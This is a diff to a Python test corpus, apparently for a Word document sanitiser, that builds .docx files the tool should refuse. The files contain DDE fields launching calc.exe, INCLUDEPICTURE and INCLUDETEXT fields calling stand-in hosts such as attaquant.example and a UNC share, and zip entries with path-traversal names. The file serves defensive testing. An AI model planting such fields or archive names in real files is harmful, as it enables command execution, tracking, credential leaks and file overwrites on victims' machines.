@@ -153,25 +153,25 @@ REFUSED = [
     CorpusFile(
         "dde-corps.docx",
         "dde_field",
-        "champ « DDEAUTO » (dans le corps du document)",
+        "champ «\u00a0DDEAUTO\u00a0» (dans le corps du document)",
         lambda: docx(paragraph(complex_field(" DD", "EAUTO ", f'{CMD} "/k calc.exe"', result="Chargement"))),
     ),
     CorpusFile(
         "dde-en-tete.docx",
         "dde_field",
-        "champ « DDE » (dans un en-tête)",
+        "champ «\u00a0DDE\u00a0» (dans un en-tête)",
         lambda: docx(parts={"header": simple_field(f'DDE {CMD} "/k calc.exe"', "Titre")}),
     ),
     CorpusFile(
         "dde-commentaires.docx",
         "dde_field",
-        "champ « DDEAUTO » (dans les commentaires)",
+        "champ «\u00a0DDEAUTO\u00a0» (dans les commentaires)",
         lambda: docx(parts={"comments": complex_field(" ddeauto ", f'{CMD} "/k calc.exe"')}),
     ),
     CorpusFile(
         "includepicture-pied-de-page.docx",
         "remote_field",
-        "champ « INCLUDEPICTURE » (dans un pied de page) qui va chercher « http://traceur.example/pixel.png »",
+        "champ «\u00a0INCLUDEPICTURE\u00a0» (dans un pied de page) qui va chercher «\u00a0http://traceur.example/pixel.png\u00a0»",
         lambda: docx(
             parts={
                 "footer": complex_field(' INCLUDEPICTURE  "http://traceur.', 'example/pixel.png" \\* MERGEFORMATINET ')
@@ -181,15 +181,15 @@ REFUSED = [
     CorpusFile(
         "includetext-notes.docx",
         "remote_field",
-        "champ « INCLUDETEXT » (dans les notes de bas de page) qui va chercher "
-        "« https://attaquant.example/texte.docx »",
+        "champ «\u00a0INCLUDETEXT\u00a0» (dans les notes de bas de page) qui va chercher "
+        "«\u00a0https://attaquant.example/texte.docx\u00a0»",
         lambda: docx(parts={"footnotes": simple_field(' INCLUDETEXT "https://attaquant.example/texte.docx" ')}),
     ),
     CorpusFile(
         "includepicture-partage-reseau.docx",
         "remote_field",
-        "champ « INCLUDEPICTURE » (dans les notes de fin) qui va chercher "
-        "« \\\\\\\\attaquant.example\\\\partage\\\\image.png »",
+        "champ «\u00a0INCLUDEPICTURE\u00a0» (dans les notes de fin) qui va chercher "
+        "«\u00a0\\\\\\\\attaquant.example\\\\partage\\\\image.png\u00a0»",
         lambda: docx(
             parts={
                 "endnotes": complex_field(' INCLUDEPICTURE "\\\\\\\\attaquant.example\\\\partage\\\\image.png" \\d ')
@@ -199,7 +199,8 @@ REFUSED = [
     CorpusFile(
         "includepicture-adresse-calculee.docx",
         "remote_field",
-        "champ « INCLUDEPICTURE » (dans le corps du document) qui va chercher une adresse calculée par un autre champ",
+        "champ «\u00a0INCLUDEPICTURE\u00a0» (dans le corps du document) qui va chercher une adresse calculée par un "
+        "autre champ",
         lambda: docx(
             paragraph(
                 '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
@@ -213,7 +214,7 @@ REFUSED = [
     CorpusFile(
         "image-adresse-sans-mode-externe.docx",
         "external_relationship",
-        "(image : « http://traceur.example/pixel-interne.png »)",
+        "(image\u00a0: «\u00a0http://traceur.example/pixel-interne.png\u00a0»)",
         lambda: docx(
             relationships=f'<Relationship Id="rIdX1" Type="{R}/image" Target="http://traceur.example/pixel-interne.png"/>'
         ),
@@ -221,25 +222,25 @@ REFUSED = [
     CorpusFile(
         "zip-remonte.docx",
         "unsafe_entry_name",
-        "nom dangereux (« ../../evasion.txt »)",
+        "nom dangereux («\u00a0../../evasion.txt\u00a0»)",
         lambda: docx(extra=[("../../evasion.txt", b"hors de l'archive")]),
     ),
     CorpusFile(
         "zip-chemin-absolu.docx",
         "unsafe_entry_name",
-        "nom dangereux (« /tmp/evasion.txt »)",
+        "nom dangereux («\u00a0/tmp/evasion.txt\u00a0»)",
         lambda: docx(extra=[("/tmp/evasion.txt", b"chemin absolu")]),
     ),
     CorpusFile(
         "zip-lecteur-windows.docx",
         "unsafe_entry_name",
-        "nom dangereux (« C:\\Windows\\evasion.txt »)",
+        "nom dangereux («\u00a0C:\\Windows\\evasion.txt\u00a0»)",
         lambda: docx(extra=[("C:\\Windows\\evasion.txt", b"lecteur Windows")]),
     ),
     CorpusFile(
         "zip-antislash.docx",
         "unsafe_entry_name",
-        "nom dangereux (« word\\..\\..\\evasion.txt »)",
+        "nom dangereux («\u00a0word\\..\\..\\evasion.txt\u00a0»)",
         lambda: docx(extra=[("word\\..\\..\\evasion.txt", b"antislash")]),
     ),
 ]
